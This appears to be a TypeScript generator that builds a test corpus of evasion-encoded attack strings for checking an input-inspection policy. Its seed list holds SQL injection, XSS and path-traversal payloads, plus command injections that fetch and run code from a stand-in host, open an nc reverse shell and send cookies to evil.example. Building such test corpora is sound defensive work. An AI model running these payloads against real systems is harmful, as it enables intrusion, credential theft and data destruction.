import type { Category } from "../../agent/policy/inspect/mod.ts";
import { BINARY_EVASIONS } from "./binary_evasions.ts";
import { familyText, type MadeFamily, type MadeItem } from "./family_writer.ts";
import { TEXT_EVASIONS } from "./text_evasions.ts";

interface Seed {
  readonly key: string;
  readonly category: Category;
  readonly text: string;
}

/** Attacks that are found as they are: each form is given some of them, of other categories in turn. */
const SEEDS: readonly Seed[] = [
  { key: "tautology", category: "sqli", text: "x' OR '1'='1' -- " },
  { key: "separated", category: "command-injection", text: "10.0.0.7; cat /etc/passwd" },
  { key: "script", category: "script-injection", text: "<script>alert(document.cookie)</script>" },
  { key: "climb", category: "path-traversal", text: "../../../../etc/passwd" },
  { key: "union", category: "sqli", text: "1 UNION SELECT name, pw FROM users" },
  { key: "substitution", category: "command-injection", text: "$(wget http://203.0.113.9/x -O- | sh)" },
  { key: "handler", category: "script-injection", text: '"><img src=x onerror=alert(1)>' },
  { key: "climb-windows", category: "path-traversal", text: "..\\..\\..\\windows\\win.ini" },
  { key: "stacked", category: "sqli", text: "7'; DROP TABLE readings; --" },
  { key: "pipe", category: "command-injection", text: "eth0 | nc 203.0.113.9 4444 -e /bin/sh" },
  { key: "uri", category: "script-injection", text: '<a href="javascript:alert(1)">x</a>' },
  { key: "upload", category: "path-traversal", text: "img/../../../../root/.ssh/authorized_keys" },
  { key: "blind", category: "sqli", text: "4 AND (SELECT COUNT(*) FROM users) > 0" },
  { key: "spaceless", category: "command-injection", text: ";cat${IFS}/etc/shadow" },
  { key: "vector image", category: "script-injection", text: "<svg/onload=fetch('//evil.example/'+document.cookie)>" },
  { key: "file", category: "path-traversal", text: "file:///etc/shadow" },
  { key: "delay", category: "sqli", text: "'; WAITFOR DELAY '0:0:9' --" },
  { key: "download", category: "command-injection", text: "cd /tmp; wget http://203.0.113.9/arm7; sh arm7" },
  { key: "frame", category: "script-injection", text: "<iframe src=//evil.example/></iframe>" },
  { key: "process", category: "path-traversal", text: "../../proc/self/environ" },
  { key: "catalogue", category: "sqli", text: "' UNION ALL SELECT table_name, 2 FROM information_schema.tables --" },
  { key: "lookup", category: "command-injection", text: "${jndi:ldap://203.0.113.9/a}" },
  { key: "template", category: "script-injection", text: "{{ ''.__class__.__mro__[1].__subclasses__() }}" },
  { key: "climb-mixed", category: "path-traversal", text: "..\\../..\\../etc/mosquitto/passwd" },
];

/** Seeds for each form: of four categories three, other ones each time. */
const SEEDS_EACH = 3;

/** The families `evasion-*`: every form, of some seeds. */
export function evasionFamilies(): MadeFamily[] {
  let turn = 0;
  return [...TEXT_EVASIONS, ...BINARY_EVASIONS].map(({ family, about, forms }) => {
    const items = forms.flatMap(({ name, part, only, needs, make }): MadeItem[] => {
      const fitting = SEEDS.filter((seed) =>
        (only === undefined || only.includes(seed.category)) && (needs === undefined || needs.test(seed.text))
      );
      return Array.from({ length: Math.min(SEEDS_EACH, fitting.length) }, () => {
        const { key, category, text } = fitting[turn++ % fitting.length] as Seed;
        return { name: `${name}, ${key}`, ...(part === undefined ? {} : { part }), category, content: make(text) };
      });
    });
    return { family, about, category: "sqli", items };
  });
}

if (import.meta.main) {
  const folder = new URL("../../tests/corpus/attacks/", import.meta.url);
  for (const family of evasionFamilies()) {
    await Deno.writeTextFile(new URL(`${family.family}.json`, folder), familyText(family));
  }
}
